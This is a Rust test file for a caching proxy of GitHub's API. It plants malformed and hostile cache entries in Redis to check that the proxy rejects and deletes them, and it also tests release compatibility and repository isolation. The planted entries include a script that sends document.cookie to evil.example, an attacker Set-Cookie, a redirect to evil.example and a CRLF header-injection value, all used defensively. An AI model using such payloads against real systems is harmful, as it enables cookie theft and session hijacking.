//! Dragonfly is trusted no more than GitHub (CONTRACT 4, v2): values are
//! written straight into Redis, as an attacker with access to it (or a
//! buggy neighbour) would, and chimney must treat each failing one as a
//! miss and delete it, still read an entry the previous release wrote, and
//! keep deployments for different repositories on one database apart.
//!
//! Redis only: each test prints why it skips in a memory-only run.

use std::time::{Duration, SystemTime, UNIX_EPOCH};

use deadpool_redis::redis;
use url::Url;

use crate::admin_client::{DEPLOY_TOKEN, with_tokens};
use crate::helpers::{
    Backend, DRAGONFLY_URL_ENV, PAGINATE_ISSUES, REDIS_DEADLINE, TestApp, fresh_database,
    spawn_app, spawn_app_with,
};
use chimney_testkit::github::ALL;

/// The app's Redis URL, or `None` after printing why the test skips.
fn redis_of(app: &TestApp) -> Option<Url> {
    let url = app.redis.clone();
    if url.is_none() {
        println!("skipping: {DRAGONFLY_URL_ENV} not set (memory-only run)");
    }
    url
}

async fn redis_cmd<T: redis::FromRedisValue>(url: &Url, cmd: &redis::Cmd) -> T {
    let run = async {
        let client = redis::Client::open(url.as_str())?;
        let mut conn = client.get_multiplexed_async_connection().await?;
        cmd.query_async::<T>(&mut conn).await
    };
    tokio::time::timeout(REDIS_DEADLINE, run)
        .await
        .expect("Redis answers in time")
        .expect("Redis command succeeds")
}

async fn plant(url: &Url, key: &str, value: &[u8]) {
    let () = redis_cmd(url, redis::cmd("SET").arg(key).arg(value)).await;
}

async fn stored(url: &Url, key: &str) -> Option<Vec<u8>> {
    redis_cmd(url, redis::cmd("GET").arg(key)).await
}

fn unix_millis(at: SystemTime) -> u64 {
    u64::try_from(
        at.duration_since(UNIX_EPOCH)
            .unwrap_or_default()
            .as_millis(),
    )
    .unwrap()
}

/// An entry laid out byte for byte in the stored format (version 1), as
/// any writer could produce it, not through chimney's encoder.
fn framed(status: u16, fetched_at: SystemTime, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    fn varint(out: &mut Vec<u8>, mut n: u64) {
        while n >= 0x80 {
            out.push((n as u8 & 0x7f) | 0x80);
            n >>= 7;
        }
        out.push(n as u8);
    }
    let mut out = vec![1];
    out.extend_from_slice(&status.to_be_bytes());
    out.extend_from_slice(&unix_millis(fetched_at).to_be_bytes());
    varint(&mut out, headers.len() as u64);
    for (name, value) in headers {
        varint(&mut out, name.len() as u64);
        out.extend_from_slice(name.as_bytes());
        varint(&mut out, value.len() as u64);
        out.extend_from_slice(value.as_bytes());
    }
    varint(&mut out, body.len() as u64);
    out.extend_from_slice(body);
    out
}

/// The hostile values, each under its own key: what no chimney would
/// store.
fn hostile_values() -> Vec<(&'static str, Vec<u8>)> {
    let now = SystemTime::now();
    let json = [("content-type", "application/json; charset=utf-8")];
    let good = framed(200, now, &json, b"[{\"number\":1}]");
    vec![
        ("garbage", b"\x00\xffnot an entry at all".to_vec()),
        ("truncated", good[..good.len() - 5].to_vec()),
        (
            "oversized",
            framed(200, now, &json, &vec![b' '; 10 * 1024 * 1024 + 1]),
        ),
        (
            "cookie",
            framed(
                200,
                now,
                &[
                    ("content-type", "application/json"),
                    ("set-cookie", "session=attacker; Path=/"),
                ],
                b"[]",
            ),
        ),
        (
            "html",
            framed(
                200,
                now,
                &[("content-type", "text/html; charset=utf-8")],
                b"<script>fetch('https://evil.example/?'+document.cookie)</script>",
            ),
        ),
        (
            "redirect",
            framed(302, now, &[("location", "https://evil.example/")], b""),
        ),
        (
            "crlf",
            framed(200, now, &[("etag", "\"a\"\r\nSet-Cookie: x=y")], b"[]"),
        ),
        (
            "many-headers",
            framed(200, now, &[("link", "<a>"); 100], b"[]"),
        ),
        (
            "old-404",
            framed(
                404,
                now - Duration::from_secs(3600),
                &json,
                b"{\"message\":\"Not Found\"}",
            ),
        ),
    ]
}

#[tokio::test]
async fn hostile_entries_are_misses_and_are_deleted() {
    let app = spawn_app().await;
    let Some(url) = redis_of(&app) else { return };
    app.wait_for_dragonfly("connected", Duration::from_secs(15))
        .await;
    // GitHub is down: whatever the client gets can only come from the
    // planted entry, and nothing fetched can overwrite it.
    app.github.fail_with(ALL, 503);

    for (name, value) in hostile_values() {
        let rel = format!("/issues/{name}");
        let key = app.redis_key(&rel);
        plant(&url, &key, &value).await;

        let response = app.get_github(&rel).await;

        response.assert_problem(502);
        assert!(response.header("set-cookie").is_none(), "{name}");
        assert!(response.header("location").is_none(), "{name}");
        assert!(!response.text().contains("<script>"), "{name}");
        assert_eq!(response.header("x-content-type-options"), Some("nosniff"));
        assert_eq!(stored(&url, &key).await, None, "{name} was not deleted");
        assert_eq!(
            app.github.requests_for(&app.upstream(&rel)),
            1,
            "{name}: a miss goes upstream"
        );
    }
}

#[tokio::test]
async fn a_hostile_entry_is_replaced_by_githubs_answer() {
    let app = spawn_app().await;
    let Some(url) = redis_of(&app) else { return };
    app.wait_for_dragonfly("connected", Duration::from_secs(15))
        .await;
    let rel = "/issues/1";
    let upstream = app.upstream(rel);
    app.github
        .set_json(&upstream, &serde_json::json!({ "number": 1 }));
    let key = app.redis_key(rel);
    let hostile = framed(
        200,
        SystemTime::now(),
        &[
            ("content-type", "text/html"),
            ("set-cookie", "session=attacker"),
        ],
        b"<script>alert(1)</script>",
    );
    plant(&url, &key, &hostile).await;

    let response = app.get_github(rel).await;

    assert_eq!(response.status, 200, "{}", response.text());
    assert_eq!(response.x_cache(), "MISS");
    assert_eq!(response.body, app.github.body(&upstream));
    assert_eq!(
        response.header("content-type"),
        Some("application/json; charset=utf-8")
    );
    assert!(response.header("set-cookie").is_none());
    let now_stored = stored(&url, &key).await.expect("the fetch was stored");
    assert_ne!(now_stored, hostile);
}

#[tokio::test]
async fn an_entry_from_the_future_is_treated_as_stale() {
    let app = spawn_app().await;
    let Some(url) = redis_of(&app) else { return };
    app.wait_for_dragonfly("connected", Duration::from_secs(15))
        .await;
    let rel = "/issues/2";
    let upstream = app.upstream(rel);
    app.github
        .set_json(&upstream, &serde_json::json!({ "number": 2 }));
    let in_a_year = SystemTime::now() + Duration::from_secs(365 * 24 * 3600);
    plant(
        &url,
        &app.redis_key(rel),
        &framed(
            200,
            in_a_year,
            &[
                ("content-type", "application/json"),
                ("etag", "\"planted\""),
            ],
            b"{\"number\":\"planted\"}",
        ),
    )
    .await;

    let response = app.get_github(rel).await;

    // Not a HIT: the entry is revalidated with its ETag, and GitHub's
    // newer answer replaces it.
    assert_eq!(response.status, 200, "{}", response.text());
    assert_ne!(response.x_cache(), "HIT");
    assert_eq!(response.body, app.github.body(&upstream));
    let sent = app.github.last_request_headers(&upstream).expect("asked");
    assert_eq!(
        sent.get("if-none-match").and_then(|v| v.to_str().ok()),
        Some("\"planted\"")
    );
}

#[tokio::test]
async fn an_entry_written_by_the_previous_release_is_still_read() {
    let app = spawn_app().await;
    let Some(url) = redis_of(&app) else { return };
    app.wait_for_dragonfly("connected", Duration::from_secs(15))
        .await;
    let rel = "/issues/3";
    let key = app.redis_key(rel);
    let body = b"[{\"number\":3,\"from\":\"the previous release\"}]";
    let previous = framed(
        200,
        SystemTime::now(),
        &[
            ("content-type", "application/json; charset=utf-8"),
            ("etag", "W/\"prev\""),
            ("x-ratelimit-remaining", "4000"),
        ],
        body,
    );
    plant(&url, &key, &previous).await;

    let response = app.get_github(rel).await;

    assert_eq!(response.status, 200, "{}", response.text());
    assert_eq!(response.x_cache(), "HIT");
    assert_eq!(&response.body[..], body);
    assert_eq!(app.github.total_requests(), 0);
    assert_eq!(stored(&url, &key).await, Some(previous), "left in place");
}

/// Two deployments for different repositories, sharing one database.
async fn two_deployments() -> Option<(TestApp, TestApp, Url)> {
    let Backend::Redis(server) = Backend::from_env() else {
        println!("skipping: {DRAGONFLY_URL_ENV} not set (memory-only run)");
        return None;
    };
    let shared = fresh_database(&server).await;
    let spawn = |repo: &'static str| {
        let redis = shared.clone();
        spawn_app_with(move |s| {
            with_tokens(s);
            s.repo = chimney::domain::RepoName::parse(repo).unwrap();
            s.redis = Some(redis);
        })
    };
    let a = spawn(crate::helpers::HELLO_WORLD).await;
    let b = spawn(PAGINATE_ISSUES).await;
    for app in [&a, &b] {
        app.wait_for_dragonfly("connected", Duration::from_secs(15))
            .await;
    }
    Some((a, b, shared))
}

#[tokio::test]
async fn deployments_for_different_repos_on_one_database_never_meet() {
    let Some((a, b, shared)) = two_deployments().await else {
        return;
    };
    for (app, who) in [(&a, "a"), (&b, "b")] {
        app.github.set_json(
            &app.upstream("/labels"),
            &serde_json::json!([{ "who": who }]),
        );
    }

    // Entries: each fetches its own; neither sees the other's.
    let a_first = a.get_github("/labels").await;
    let b_first = b.get_github("/labels").await;
    assert_eq!((a_first.x_cache(), b_first.x_cache()), ("MISS", "MISS"));
    assert_eq!(a_first.json()[0]["who"], "a");
    assert_eq!(b_first.json()[0]["who"], "b");
    assert!(stored(&shared, &a.redis_key("/labels")).await.is_some());
    assert!(stored(&shared, &b.redis_key("/labels")).await.is_some());

    // Invalidations: a full one on `a` leaves `b`'s Dragonfly entry and
    // (no notice on its channel) its memory entry alone.
    let result = a
        .invalidate(&serde_json::json!({ "path": "/", "reason": "namespace test" }))
        .await;
    assert_eq!(result.status, 200, "{}", result.text());
    assert!(stored(&shared, &a.redis_key("/labels")).await.is_none());
    assert!(stored(&shared, &b.redis_key("/labels")).await.is_some());
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(b.get_github("/labels").await.x_cache(), "HIT");
    assert_eq!(b.github.requests_for(&b.upstream("/labels")), 1);

    // Deploy history: `a`'s event is not `b`'s.
    let recorded = a
        .post_json(
            "/api/deploy/events",
            Some(DEPLOY_TOKEN),
            &serde_json::json!({ "sha": "abc1234", "outcome": "success" }),
        )
        .await;
    assert_eq!(recorded.status, 200, "{}", recorded.text());
    assert_eq!(a.deploy_status().await.status, 200);
    assert_eq!(b.deploy_status().await.status, 204, "b has no deploys");
}
